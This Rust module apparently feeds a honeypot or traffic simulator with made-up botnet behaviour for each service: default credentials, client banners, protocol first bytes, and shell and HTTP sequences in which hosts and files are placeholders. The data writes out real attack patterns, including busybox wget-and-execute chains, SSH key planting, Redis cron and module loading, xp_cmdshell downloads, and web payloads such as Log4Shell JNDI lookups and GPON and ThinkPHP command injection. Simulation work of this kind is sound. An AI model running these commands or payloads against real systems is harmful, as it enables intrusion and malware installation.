//! What the made-up botnets say, by service: credentials, greetings, lines for shells, requests and first bytes, as public
//! analyses of real ones print them. Every host is a documentation address (RFC 5737), every file a look-alike: nothing
//! here works. `{applet}`, `{host}`, `{file}` and `{key}` are filled in for each botnet.

use super::credentials::{ACCOUNTS, DATABASE, FACTORY_PAIRS, MAILBOXES, SCREEN_PASSWORDS, SERVERS};

/// What visitors of one kind of service say, and how often.
pub(super) struct Family {
    /// The services it speaks to.
    pub(super) services: &'static [&'static str],
    /// What its software says of itself; none: nothing is said.
    pub(super) clients: &'static [&'static str],
    /// User names and passwords.
    pub(super) credentials: &'static [(&'static str, &'static str)],
    /// Whether the protocol has user names.
    pub(super) has_users: bool,
    /// Login tries in a session, at least and at most.
    pub(super) logins: (u64, u64),
    /// The share of sessions that get in and go on.
    pub(super) accepts: f64,
    /// Lines given one after the other; one list a session.
    pub(super) programs: &'static [&'static [&'static str]],
    /// The share of sessions that got in and leave a file.
    pub(super) drops: f64,
    /// Requests.
    pub(super) requests: &'static [Asked],
    /// First bytes sent instead of anything above.
    pub(super) first_bytes: &'static [&'static [u8]],
}

/// A request.
pub(super) struct Asked {
    /// The target.
    pub(super) target: &'static str,
    /// The body; a request that has one is a POST.
    pub(super) body: Option<&'static str>,
}

const fn get(target: &'static str) -> Asked {
    Asked { target, body: None }
}

const fn post(target: &'static str, body: &'static str) -> Asked {
    Asked { target, body: Some(body) }
}

/// Says nothing; the base of every family.
const SILENT: Family = Family {
    services: &[],
    clients: &[],
    credentials: &[],
    has_users: true,
    logins: (1, 6),
    accepts: 0.0,
    programs: &[],
    drops: 0.0,
    requests: &[],
    first_bytes: &[],
};

/// Names of applets that do not exist, by which a worm tells a shell from a trap.
pub(super) const APPLETS: &[&str] =
    &["OFURO", "KEIRO", "IHCCE", "JOSHO", "SORA", "MASUTA", "KTN", "DAKU", "OWARI", "HORO"];

/// The applet of the best known look-alike.
pub(super) const FIRST_APPLET: &str = "ECCHI";

/// Every family; the last one serves whatever no other does.
pub(super) static FAMILIES: [Family; 14] = [
    Family {
        services: &["telnet"],
        credentials: FACTORY_PAIRS,
        logins: (1, 8),
        accepts: 0.35,
        programs: &[MIRAI, GAFGYT],
        drops: 0.6,
        ..SILENT
    },
    Family {
        services: &["ssh"],
        clients: &[
            "SSH-2.0-Go", "SSH-2.0-libssh2_1.4.3", "SSH-2.0-libssh_0.9.6", "SSH-2.0-PUTTY", "SSH-2.0-paramiko_2.12.0",
            "SSH-2.0-sshlib-0.1", "SSH-2.0-JSCH-0.1.54", "SSH-2.0-OpenSSH_7.4", "SSH-2.0-\u{1b}[2J\u{202e}look-alike",
        ],
        credentials: ACCOUNTS,
        logins: (1, 6),
        accepts: 0.25,
        programs: &[RECONNAISSANCE, KEY_PLANTING, MINER],
        drops: 0.4,
        ..SILENT
    },
    Family { services: &["http", "https"], requests: WEB, ..SILENT },
    Family { services: &["elasticsearch"], requests: SEARCH, ..SILENT },
    Family {
        services: &["vnc"],
        clients: &["RFB 003.008", "RFB 003.003"],
        credentials: SCREEN_PASSWORDS,
        has_users: false,
        logins: (1, 12),
        ..SILENT
    },
    Family {
        services: &["mssql"],
        clients: &["OSQL-32", "Microsoft SQL Server Management Studio", "look-alike TDS 7.1"],
        credentials: DATABASE,
        logins: (1, 10),
        accepts: 0.1,
        programs: &[XP_CMDSHELL],
        ..SILENT
    },
    Family { services: &["mysql", "postgresql", "mongodb", "ldap"], credentials: SERVERS, logins: (1, 5), ..SILENT },
    Family {
        services: &["ftp", "imap", "pop3", "mqtt", "rdp", "socks"],
        credentials: ACCOUNTS,
        logins: (1, 5),
        ..SILENT
    },
    Family {
        services: &["smtp"],
        clients: &["EHLO ylmf-pc", "EHLO win-clj1b0gq6jp", "EHLO look-alike.example"],
        credentials: MAILBOXES,
        logins: (1, 4),
        accepts: 0.15,
        programs: &[RELAY],
        ..SILENT
    },
    Family { services: &["redis"], programs: &[CRON, REPLICA], drops: 0.3, ..SILENT },
    Family {
        services: &["adb"],
        clients: &["host::", "host::features=shell_v2,cmd"],
        programs: &[DEBUG_BRIDGE],
        drops: 0.5,
        ..SILENT
    },
    Family { services: &["smb"], first_bytes: &[SMB1, SMB2], ..SILENT },
    Family { services: &["radmin"], first_bytes: &[RADMIN], ..SILENT },
    Family {
        services: &[],
        first_bytes: &[
            TLS, RDP, b"GET / HTTP/1.0\r\n\r\n", b"SSH-2.0-Go\r\n", b"OPTIONS / RTSP/1.0\r\n\r\n", b"\r\n\r\n",
            b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"look-alike\"}}\n",
            b"M-SEARCH * HTTP/1.1\r\nMAN: \"ssdp:discover\"\r\n\r\n", b"stats\r\n",
        ],
        ..SILENT
    },
];

const MIRAI: &[&str] = &[
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox {applet}",
    "/bin/busybox ps; /bin/busybox {applet}",
    "/bin/busybox cat /proc/mounts; /bin/busybox {applet}",
    ">/dev/.ptmx && cd /dev/",
    ">/tmp/.ptmx && cd /tmp/",
    "/bin/busybox cp /bin/echo {file}; >{file}; /bin/busybox chmod 777 {file}; /bin/busybox {applet}",
    "/bin/busybox cat /bin/echo",
    "/bin/busybox wget; /bin/busybox tftp; /bin/busybox {applet}",
    "/bin/busybox wget http://{host}/bins/{file}.arm7 -O - > {file}; /bin/busybox chmod 777 {file}; /bin/busybox {applet}",
    "./{file} telnet.look-alike; /bin/busybox {applet}",
];

const GAFGYT: &[&str] = &[
    "sh",
    "shell",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
    "wget http://{host}/{file}.sh; chmod 777 {file}.sh; sh {file}.sh",
    "tftp {host} -c get {file}.sh; sh {file}.sh",
    "rm -rf {file}.sh; history -c",
];

const RECONNAISSANCE: &[&str] = &[
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
];

const KEY_PLANTING: &[&str] = &[
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAALOOKALIKE{key} harmless\">>.ssh/authorized_keys && chmod -R go= ~/.ssh",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "uname -m",
    "top",
    "uname -a",
    "whoami",
    "nproc",
];

const MINER: &[&str] = &[
    "uname -a",
    "nproc",
    "cd /tmp; (wget -q http://{host}/{file} || curl -s -O http://{host}/{file}) && chmod +x {file} && ./{file}",
    "ps | grep '[Mm]iner'",
    "crontab -l",
];

const XP_CMDSHELL: &[&str] = &[
    "EXEC sp_configure 'show advanced options', 1; RECONFIGURE;",
    "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;",
    "EXEC xp_cmdshell 'certutil -urlcache -f http://{host}/{file}.txt %TEMP%\\{file}.txt'",
];

const RELAY: &[&str] =
    &["MAIL FROM:<{file}@example.com>", "RCPT TO:<look-alike@example.net>", "DATA", "QUIT"];

const CRON: &[&str] = &[
    "INFO",
    "CONFIG SET dir /var/spool/cron",
    "CONFIG SET dbfilename root",
    "SET {key} \"\\n*/2 * * * * curl -fsSL http://{host}/{file}.sh | sh\\n\"",
    "SAVE",
];

const REPLICA: &[&str] =
    &["INFO", "SLAVEOF {host} 6380", "MODULE LOAD /tmp/{file}.so", "SLAVEOF NO ONE"];

const DEBUG_BRIDGE: &[&str] = &[
    "shell:cd /data/local/tmp; rm -rf {file}; busybox wget http://{host}/{file}.sh -O {file}; sh {file}",
    "shell:>/sdcard/Download/f && cd /sdcard/Download/; toybox wget http://{host}/{file}.sh; sh {file}.sh",
];

/// User agents of scanners.
pub(super) const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "curl/7.68.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "masscan/1.3",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Hello, world",
    "l9explore/1.2.2",
    "Mozilla/4.0",
];

const WEB: &[Asked] = &[
    get("/"),
    get("/.env"),
    get("/.git/config"),
    get("/wp-login.php"),
    get("/phpmyadmin/"),
    get("/robots.txt"),
    get("/favicon.ico"),
    get("/manager/html"),
    get("/actuator/gateway/routes"),
    get("/solr/admin/info/system"),
    get("/HNAP1/"),
    get("/owa/"),
    get("/remote/fgt_lang?lang=/../../../..//////////dev/"),
    get("/login.action"),
    get("/console/"),
    get("/_ignition/health-check"),
    get("/containers/json"),
    get("/api/v1/pods"),
    get("/boaform/admin/formLogin?username=admin&psw=admin"),
    get("/shell?cd+/tmp;wget+http://{host}/{file}.sh;sh+{file}.sh"),
    get(
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://{host}/{file}.sh+-O+/tmp/{file}",
    ),
    get(
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=curl+http://{host}/{file}.sh",
    ),
    get("/?x=${jndi:ldap://{host}:1389/{file}}"),
    post(
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "<?php echo 'look-alike {key}, harmless'; ?>",
    ),
    post(
        "/xmlrpc.php",
        "<?xml version=\"1.0\"?><methodCall><methodName>system.listMethods</methodName></methodCall>",
    ),
    post(
        "/GponForm/diag_Form?images/",
        "XWebPageName=diag&diag_action=ping&dest_host=`wget+http://{host}/{file}`&ipv=0",
    ),
    post("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "echo; curl http://{host}/{file}.sh"),
    post("/ws/v1/cluster/apps/new-application", "{\"application-name\":\"{file}\"}"),
];

const SEARCH: &[Asked] = &[
    get("/"),
    get("/_cat/indices?v"),
    get("/_cluster/health"),
    get("/_nodes"),
    get("/_search?pretty"),
    get("/_stats"),
    post("/_search?pretty", "{\"size\":1,\"script_fields\":{\"{key}\":{\"script\":\"1+1\"}}}"),
    post("/read_me/_doc", "{\"message\":\"look-alike of a ransom note, harmless: {key}\"}"),
];

/// SMB1 negotiate, as far as its first dialects ([MS-CIFS] 2.2.4.52).
const SMB1: &[u8] = b"\x00\x00\x00\x54\xffSMBr\x00\x00\x00\x00\x18\x01\x28\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x31\x00\x02NT LM 0.12\x00";
/// SMB2 negotiate, its header ([MS-SMB2] 2.2.3).
const SMB2: &[u8] = b"\x00\x00\x00\x66\xfeSMB\x40\x00\x00\x00\x00\x00\x00\x00\x00\x00\x1f\x00\x00\x00\x00\x00\x00\x00\x00\x00";
/// What a Radmin client says first.
const RADMIN: &[u8] = b"\x01\x00\x00\x00\x01\x00\x00\x00\x08\x08";
/// The head of a TLS 1.2 ClientHello (RFC 5246).
const TLS: &[u8] = b"\x16\x03\x01\x00\xf1\x01\x00\x00\xed\x03\x03";
/// An X.224 connection request with a cookie ([MS-RDPBCGR] 2.2.1.1).
const RDP: &[u8] = b"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=hello\r\n";
